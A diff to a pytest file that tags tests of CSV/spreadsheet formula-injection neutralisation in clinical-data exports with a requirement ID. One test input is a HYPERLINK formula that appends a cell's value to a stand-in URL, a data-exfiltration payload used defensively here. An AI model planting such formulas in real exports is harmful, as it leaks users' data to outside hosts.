@@ -144,6 +144,7 @@ SAMPLES = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "=", " =1+1", "  @x", "
 
 
 @pytest.mark.parametrize("trigger", TRIGGERS + ["\uff1d", "\uff0b", "\uff0d", "\uff20"])
+@pytest.mark.req("URS-CPY-009")
 def test_spreadsheet_safe_quotes_every_trigger(trigger):
     for text in (f"{trigger}HYPERLINK(\"https://x.test/\"&A2,\"note\")", trigger, f"  {trigger}x", f"\n{trigger}"):
         assert base.spreadsheet_safe(text) == "'" + text
@@ -181,6 +182,7 @@ def test_text_rows_and_text_query_neutralise_text_columns(planted):
 
 # --- Every format ---------------------------------------------------------------------------
 
+@pytest.mark.req("URS-CPY-009")
 def test_cohort_csv_zip(planted):
     archive = zipfile.ZipFile(io.BytesIO(b"".join(tabular.csv_zip(datasets.cohort()))))
     found, bad = set(), []
@@ -205,6 +207,7 @@ def test_cohort_csv_zip(planted):
     assert found >= NAMED_IN_THE_FINDING
 
 
+@pytest.mark.req("URS-CPY-009")
 def test_cohort_xlsx(planted):
     workbook = openpyxl.load_workbook(io.BytesIO(b"".join(tabular.xlsx(datasets.cohort()))))
     found, bad = set(), []
@@ -271,6 +274,7 @@ def test_sdtm_csvs(planted, tmp_path):
     assert frame["AETERM"].tolist() == [planted["AdverseEvent.term"]]
 
 
+@pytest.mark.req("URS-CPY-009")
 def test_audit_trail_csv(planted, client_for, monitor):
     response = client_for(monitor).get(reverse("oversight:audit_export"))
     assert response.status_code == 200
